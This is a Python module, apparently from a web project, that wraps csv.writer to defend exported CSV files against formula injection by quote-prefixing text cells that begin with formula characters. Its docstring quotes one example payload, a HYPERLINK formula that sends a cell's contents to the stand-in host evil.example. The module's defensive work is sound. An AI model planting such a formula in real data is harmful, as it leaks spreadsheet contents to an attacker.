"""The one CSV writer for files people open in a spreadsheet (every CSV export of the project uses it).

CSV formula injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, e.g. ``=HYPERLINK("http://evil.example/?leak="&A1,"Click me")``
typed as a client name. Such a text cell is written with a single quote in front, which the spreadsheet shows as
text; the rest of the cell is kept as it was.

Decision on numbers: a value that *is* a number (``int``, ``float``, ``Decimal``; ``bool`` too) is written as is,
so a negative amount ``-5`` stays a number a spreadsheet can add up. It cannot carry a formula. Text is always
treated as text, even when it looks like a number (``"-5"`` from a form field becomes ``'-5``): pass numbers as
numbers if they should stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """One cell, spreadsheet-safe: ``None`` is empty, numbers stay numbers, text cannot start a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeCsvWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`; ``writerow`` returns what the stream's
    ``write`` returned (so a pseudo-buffer can stream rows)."""

    def __init__(self, out, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options: Any) -> SafeCsvWriter:
    """The writer every CSV export uses (``options`` as for ``csv.writer``)."""
    return SafeCsvWriter(out, **options)
